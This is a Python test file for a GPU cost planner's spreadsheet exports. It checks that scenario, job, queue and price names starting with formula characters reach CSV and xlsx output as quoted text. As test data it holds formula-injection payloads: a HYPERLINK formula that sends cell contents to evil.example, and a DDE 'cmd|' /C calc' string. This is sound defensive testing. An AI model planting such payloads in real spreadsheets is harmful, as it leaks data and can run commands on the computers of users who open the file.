"""Formula injection: every CSV and xlsx the planner writes shows hostile names as text.

Scenario, option, job, queue and provider names that start with `=`, `+`, `-`, `@`, a tab
or CR (or a full-width form) must never become a live formula in Excel, LibreOffice or
Sheets (OWASP "CSV Injection"), while real numbers stay numbers."""

import contextlib
import csv
import io
import json
import re
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from openpyxl import load_workbook

from planner.cli import main
from planner.core.serialize import from_json
from planner.core.spreadsheet_text import (
    FORMULA_STARTS,
    is_formula_like,
    restore_text,
    safe_cell,
    safe_row,
    safe_text,
)
from planner.cost.results import TcoReport
from planner.report import build_report
from planner.report.csv_table import frame_csv, write_csv
from planner.report.excel import write_xlsx
from planner.store import open_store
from planner.ui.replay_view import filtered_csv, schedule_csv
from pricing import export_prices, import_prices, list_prices
from tests.conftest import write

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = (LINK, "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1")
FULL_WIDTH = ("\uff1d1+1", "\uff0bcmd", "\uff0d2+3", "\uff20SUM(A1)")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
SCENARIO = """\
name: {name}
currency: USD
horizons_years: [3]
discount_rate: 0.08
utilization: 0.35
self_hosted:
  - {{gpu: H100, servers: 1, gpus_per_server: 8}}
cloud:
  - {{name: {c0}, provider: AWS, gpu: H100, instance: p5.48xlarge}}
  - {{name: {c1}, provider: CoreWeave, gpu: H100}}
  - {{name: {c2}, provider: Lambda, gpu: H100, instance: 8x H100 SXM}}
  - {{name: {c3}, provider: RunPod, gpu: H100, region: Community Cloud}}
"""


def _unsafe_fields(text: str) -> list[str]:
    """CSV fields a spreadsheet would run as formulas (numbers like -3.5 are fine)."""
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    return [f for f in fields if f[:1] in FORMULA_STARTS and not NUMBER.fullmatch(f)]


@pytest.mark.parametrize("name", HOSTILE + FULL_WIDTH)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(name: str) -> None:
    assert safe_text(name) == "'" + name
    assert restore_text(safe_text(name)) == name


@pytest.mark.parametrize("value", ["-3.5", "+2", "-1e-3", "plain", "team-a", "", " =1"])
def test_numbers_and_ordinary_text_are_unchanged(value: str) -> None:
    assert safe_text(value) == value
    assert restore_text(value) == value


@pytest.mark.parametrize("value", ["'=1+1", "''-cmd", "'-3.5", "'plain"])
def test_quoting_round_trips_text_that_already_starts_with_a_quote(value: str) -> None:
    assert restore_text(safe_text(value)) == value


def test_numbers_stay_numbers_in_a_row() -> None:
    assert safe_row([-3.5, 2, None, "-3.5", "=1"]) == [-3.5, 2, None, "-3.5", "'=1"]
    assert safe_cell(-1) == -1


# --- the TCO report (xlsx and CSV), through the CLI as Finance gets it ---------------------


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> TcoReport:
    folder = tmp_path_factory.mktemp("hostile")
    names = [json.dumps(n) for n in (LINK, *HOSTILE[1:4])]
    scenario = folder / "hostile.yaml"
    scenario.write_text(SCENARIO.format(name=names[0], c0=names[1], c1=names[2], c2=names[3],
                                        c3=json.dumps(HOSTILE[4])))  # fmt: skip
    buffer = io.StringIO()
    args = ["tco", "--scenario", str(scenario), "--db", str(folder / "p.duckdb"), "--json"]
    with contextlib.redirect_stdout(buffer):
        assert main(args) == 0
    return from_json(TcoReport, json.loads(buffer.getvalue()))


def test_xlsx_has_no_formula_from_scenario_or_option_names(
    hostile_report: TcoReport,
) -> None:
    data = write_xlsx(build_report([(LINK, hostile_report)], 0, "en"))

    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    # the workbook's own formulas name a hostile option only as a quoted sheet ('...'!F2)
    formulas = [str(c.value) for c in cells if c.data_type == "f"]
    assert len(formulas) > 100
    bare = [re.sub(r"'(?:[^']|'')*'!", "", f) for f in formulas]
    assert not [f for f in bare if "HYPERLINK(" in f or "cmd|" in f or '"http' in f]
    hostile = [
        c
        for c in cells
        if c.data_type != "f" and isinstance(c.value, str) and is_formula_like(c.value)
    ]
    assert {c.parent.title for c in hostile} >= {
        "Cover",
        "Options (all horizons)",
        "Monthly cash flow",
        "Sensitivity",
        "Prices used",
        "Comparison",
    }
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    assert LINK in {c.value for c in hostile}  # shown as the text it is, not changed
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert len(numbers) > 100
    assert all(isinstance(v, int | float) for v in numbers)


def test_report_csv_quotes_hostile_names_and_keeps_numbers(
    hostile_report: TcoReport,
) -> None:
    text = write_csv(build_report([(LINK, hostile_report)], 0, "en")).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(text)))
    assert _unsafe_fields(text) == []
    assert {row[0] for row in rows[1:]} == {"'" + LINK}
    assert {row[2] for row in rows[1:]} >= {"'" + n for n in HOSTILE[1:5]}
    assert float(rows[1][3]) > 0  # CapEx stays a plain number


# --- the schedule (`planner replay --schedule-out` and the Replay page's download) ---------

TRACE = (
    "job_id,submit_time,duration_s,pods,gpus,queue\n"
    '"=HYPERLINK(""http://evil.example/?l=""&A1)",0,100,1,8,@team\n'
    "+cmd,0,100,1,8,-2+3\n"
    "\uff1d1,5,10,1,4,\uff20q\n"
    "plain,1,2,1,1,team\n"
)


def test_schedule_out_quotes_hostile_job_and_queue_names(tmp_path: Path) -> None:
    trace = write(tmp_path, "jobs.csv", TRACE)
    out = tmp_path / "schedule.csv"
    args = ["replay", str(trace), "--nodes", "2", "--gpus-per-node", "8"]

    with contextlib.redirect_stdout(io.StringIO()):
        assert main([*args, "--db", str(tmp_path / "p.duckdb"), "--schedule-out", str(out)]) == 0

    text = out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert _unsafe_fields(text) == []
    assert [(r["job_id"], r["queue"]) for r in rows if r["job_id"] != "plain"] == [
        ('\'=HYPERLINK("http://evil.example/?l="&A1)', "'@team"),
        ("'+cmd", "'-2+3"),
        ("'\uff1d1", "'\uff20q"),
    ]
    assert {r["gpus"] for r in rows} == {"8", "4", "1"}


def test_the_apps_schedule_download_quotes_hostile_names_once() -> None:
    rows = [("=1", "@q", "0", "-1.5"), ("ok", "team", "1", "2")]

    text = schedule_csv(rows)
    kept = filtered_csv(text, [True, False])

    assert _unsafe_fields(text) == []
    assert list(csv.reader(io.StringIO(kept)))[1][:4] == ["'=1", "'@q", "0", "-1.5"]


# --- rejected rows (`planner ingest --rejected-out` and the Job history page) -------------


def test_rejected_rows_out_quotes_the_cells_of_a_hostile_row(tmp_path: Path) -> None:
    source = write(
        tmp_path, "jobs.csv", "job_id,submit_time,duration_s,gpus\na,0,1,1\n=cmd,0,1,=1+1\n"
    )
    out = tmp_path / "rejected.csv"
    args = ["ingest", str(source), "--db", str(tmp_path / "p.duckdb"), "--rejected-out", str(out)]

    with contextlib.redirect_stdout(io.StringIO()):
        assert main(args) == 0

    text = out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert _unsafe_fields(text) == []
    assert (rows[0]["row_number"], rows[0]["value"]) == ("3", "'=1+1")


def test_frame_csv_quotes_text_columns_and_keeps_numbers() -> None:
    frame = pd.DataFrame(
        {"name": ["=1+1", "ok", None], "total": [-3.5, 2.0, float("nan")], "n": [1, -2, 3]}
    )

    text = frame_csv(frame)

    assert text.splitlines() == ["name,total,n", "'=1+1,-3.5,1", "ok,2.0,-2", ",,3"]


# --- the price book's export (`planner prices export` and the Prices page) ----------------

QUOTES = (
    "provider,region,instance_type,gpu_model,gpus_per_instance,price_per_instance_hour,"
    "currency,pricing_model,as_of,confidence,notes\n"
    '"=HYPERLINK(""http://evil.example"")",cn-east,@8x,H800 80GB SXM,8,168,CNY,quote,'
    "2026-11-20,H,-5% for 16 servers\n"
)


def test_price_export_quotes_hostile_text_and_imports_back_unchanged(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    report = import_prices(con, write(tmp_path, "quotes.csv", QUOTES))
    assert report.added == 1, report.errors

    export_prices(con, tmp_path / "prices.csv")
    with open_store(tmp_path / "other.duckdb") as other:
        again = import_prices(other, tmp_path / "prices.csv")
        copied = list_prices(other)

    text = (tmp_path / "prices.csv").read_text(encoding="utf-8")
    assert _unsafe_fields(text) == []
    assert "'-5% for 16 servers" in text
    assert (again.added, again.rejected) == (1, 0)
    assert copied == list_prices(con)
